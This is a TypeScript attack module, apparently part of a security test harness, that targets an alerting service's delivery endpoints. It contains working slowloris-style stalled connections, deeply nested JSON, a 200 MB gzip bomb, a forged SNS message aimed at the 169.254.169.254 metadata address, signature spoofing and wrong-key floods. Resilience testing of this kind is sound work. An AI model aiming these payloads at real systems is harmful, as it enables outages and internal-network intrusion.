/** Attacks on the delivery endpoints of alerts and changes. */
import { connect } from 'node:net'
import { gzipSync } from 'node:zlib'
import { type Attack, inTurn, type Target, tally } from './target.ts'

const STALLED = 24
const BOMB_BYTES = 200 * 1024 * 1024

async function alertKey({ baseUrl, secretKey, projectId }: Target, fields: object = {}): Promise<string> {
  const headers = { authorization: `Bearer ${secretKey}`, 'content-type': 'application/json' }
  const body = JSON.stringify({ name: 'attack', projectId, ...fields })
  const response = await fetch(`${baseUrl}/v1/alert-keys`, { method: 'POST', headers, body })
  // What the service answers to a request that it accepts.
  const made = (await response.json()) as { alertKey: { value: string } }
  return made.alertKey.value
}

/** Opens a delivery with this key, sends a little of its body and then nothing. Returns what ends it. */
function stalled({ baseUrl }: Target, key: string): Promise<() => void> {
  const { hostname, port } = new URL(baseUrl)
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => {
      const head = `POST /v1/alerts/generic HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${key}`
      socket.write(`${head}\r\ncontent-length: 8000000\r\n\r\n{"title":"`)
      resolve(() => void socket.destroy())
    })
    socket.on('error', () => {})
  })
}

/** Bodies that stall, bombs, wrong keys and signatures, and a certificate at an address of the attacker's choice. */
export const alerts: Attack = async (target) => {
  const { baseUrl } = target
  const [plain, signed] = [await alertKey(target), await alertKey(target, { signingSecret: 'a secret of ours' })]
  const send = (source: string, body: string | Uint8Array, key: string, headers: Record<string, string> = {}) =>
    fetch(`${baseUrl}/v1/alerts/${source}`, {
      method: 'POST',
      body,
      headers: { authorization: `Bearer ${key}`, ...headers },
    })

  const open = await Promise.all(Array.from({ length: STALLED }, () => stalled(target, plain)))
  const beside = await inTurn(20, (i) => send('generic', JSON.stringify({ title: `beside ${i}` }), plain))
  console.log(`20 deliveries beside ${STALLED} stalled ones of the same key: ${tally(beside)}`)
  for (const end of open) end()

  const deep = await send('generic', `{"title":"x","a":${'['.repeat(4_000_000)}`, plain)
  const many = await send('generic', `{"title":"x","a":[${'{},'.repeat(1_500_000)}{}]}`, plain)
  const bomb = await send('generic', gzipSync(Buffer.alloc(BOMB_BYTES, ' ')), plain, { 'content-encoding': 'gzip' })
  console.log(`4 million levels: ${deep.status}; 1.5 million objects: ${many.status}; 200 MB in a gzip: ${bomb.status}`)

  const certificate = 'http://169.254.169.254/SimpleNotificationService-00000000.pem'
  const sns = {
    Type: 'Notification',
    MessageId: '1',
    TopicArn: 'a',
    Message: '{}',
    Timestamp: new Date().toISOString(),
  }
  const forged = { ...sns, SignatureVersion: '2', Signature: 'AAAA', SigningCertURL: certificate }
  const answer = await send('cloudwatch', JSON.stringify(forged), plain)
  console.log(`A certificate at an internal address: ${answer.status} ${await answer.text()}`)

  const otherName = await send('datadog', JSON.stringify({ title: 'made up', transition: 'Triggered' }), signed)
  const unsigned = await inTurn(100, (i) => send('generic', JSON.stringify({ title: `made up ${i}` }), signed))
  console.log(
    `100 unsigned deliveries: ${tally(unsigned)}; by the name of a sender that cannot sign: ${otherName.status}`,
  )
  const refused = await inTurn(400, () => send('generic', '{"title":"x"}', 'wrong'))
  const good = await inTurn(20, (i) => send('generic', JSON.stringify({ title: `good ${i}` }), plain))
  console.log(`400 wrong keys: ${tally(refused)}; 20 right ones from there: ${tally(good)}`)
}
